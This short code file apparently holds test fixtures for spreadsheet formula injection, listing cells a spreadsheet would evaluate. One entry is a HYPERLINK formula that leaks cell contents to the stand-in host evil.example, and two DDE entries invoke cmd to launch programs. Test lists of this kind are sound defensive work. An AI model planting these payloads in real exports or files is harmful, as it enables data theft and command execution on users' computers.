// Cells a spreadsheet would run as formulas (or strip to one).
export const INJECTION_PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  "=cmd|' /C notepad'!'A1'",
];
